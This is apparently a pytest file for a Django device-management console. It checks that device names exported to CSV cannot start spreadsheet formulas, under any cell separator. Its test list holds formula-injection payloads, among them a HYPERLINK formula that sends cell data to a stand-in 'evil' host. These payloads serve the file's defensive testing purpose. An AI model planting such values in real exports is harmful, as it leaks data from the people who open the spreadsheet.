"""Finding 21: what a device calls itself is no formula in a spreadsheet, whatever separates cells there."""

import csv
import io
import re

import pytest
from django.urls import reverse

from mdm_project.console import _cell
from tests import factories

HOSTILE = [
    'a;=HYPERLINK("http://evil/?"&A1;"x")', " =1+1", "\n=1+1", "\u00a0=1+1", "\uff1d1+1", "\t=1+1", "=1+1", "a|@x",
    "a\t+x", "a,-2+3", 'a;"=1+1', "@SUM(1)", "a; =1",
]  # fmt: skip
FORMULA = re.compile(r"^[\s\"]*[=+\-@\uff1d\uff0b\uff0d\uff20]")


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_part_of_a_cell_begins_a_formula(separator):
    for name in HOSTILE:
        for line in _cell(name).splitlines():
            assert not any(FORMULA.match(part) for part in line.split(separator)), (name, line)


def test_ordinary_names_stay_as_they_are():
    for name in ("Ada's iPhone", "C++ lab", "a-b", "x=y", "mail@example.com", "2026-11-25", "A; B | C"):
        assert _cell(name) == name


@pytest.mark.django_db
def test_the_list_of_devices_is_exported_so(client):
    factories.make_channel(factories.make_device("macos", name=HOSTILE[0]))
    client.force_login(factories.make_staff(is_superuser=True))
    answer = client.get(reverse("admin:devices_device_csv"))
    text = b"".join(answer.streaming_content).decode()
    assert ";'=HYPERLINK" in text and not any(
        FORMULA.match(part) for row in csv.reader(io.StringIO(text), delimiter=";") for part in row
    )
